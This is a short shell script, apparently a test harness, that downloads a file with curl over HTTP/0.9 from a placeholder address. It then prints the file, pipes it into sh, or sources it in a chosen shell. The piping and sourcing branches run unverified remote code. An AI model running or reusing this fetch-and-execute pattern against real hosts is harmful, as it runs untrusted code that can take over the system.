#!/bin/sh
# taken-in.sh read|fed|SHELL...: downloads a script with curl (the peer speaks HTTP 0.9), and reads it, gives it to a shell, or has this
# shell source it.
curl --http0.9 --silent --output /tmp/tool http://192.0.2.80/
if [ "$1" = read ]; then
  while read -r line; do echo "$line"; done < /tmp/tool
  wc -l < /tmp/tool
  busybox wc -l /tmp/tool
elif [ "$1" = fed ]; then
  sh < /tmp/tool
else
  "$@" -c '. /tmp/tool'
fi
